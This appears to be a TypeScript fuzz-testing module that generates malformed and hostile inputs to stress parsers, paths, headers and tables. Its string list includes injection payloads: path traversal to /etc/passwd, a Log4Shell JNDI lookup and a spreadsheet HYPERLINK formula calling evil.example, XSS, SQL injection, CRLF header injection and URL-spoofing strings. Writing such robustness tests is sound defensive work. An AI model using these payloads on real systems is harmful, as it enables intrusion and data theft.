import { type Random } from './random';

/** Texts that often break parsers, paths, shells, headers and tables. */
export const hostileTexts = [
  '',
  ' ',
  '.',
  '..',
  '../../etc/passwd',
  '..\\..\\windows',
  '/',
  '//evil.example',
  'a/b',
  'a\u0000b',
  'a\r\nX-Evil: 1',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
  "' OR 1=1 --",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%00',
  '%2e%2e%2f',
  '@entity@key',
  'a:0001',
  '__proto__',
  'constructor',
  'toString',
  '\u202egnp.exe',
  '\ufeffx',
  '\ud800',
  'ä'.repeat(40),
  '\u{1f600}',
  'A'.repeat(300),
  'https://evil.example/.vault.azure.net',
  'https://contoso-westeurope.vault.azure.net@evil.example',
  'contoso-*',
] as const;

const hostileValues: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  0.5,
  1e308,
  -1e-308,
  Number.MAX_SAFE_INTEGER,
  [],
  {},
  [[]],
  [null],
  { toString: 1 },
];

/** A value of any unexpected type. */
export function junkValue(random: Random): unknown {
  if (random.chance(0.5)) return random.pick(hostileTexts);
  if (random.chance(0.02)) return 'x'.repeat(random.int(1_000, 70_000));
  if (random.chance(0.05)) return nested(random.int(10, 2_000));
  return random.pick(hostileValues);
}

function nested(depth: number): unknown {
  let value: unknown = null;
  for (let at = 0; at < depth; at += 1) value = at % 2 === 0 ? [value] : { a: value };
  return value;
}
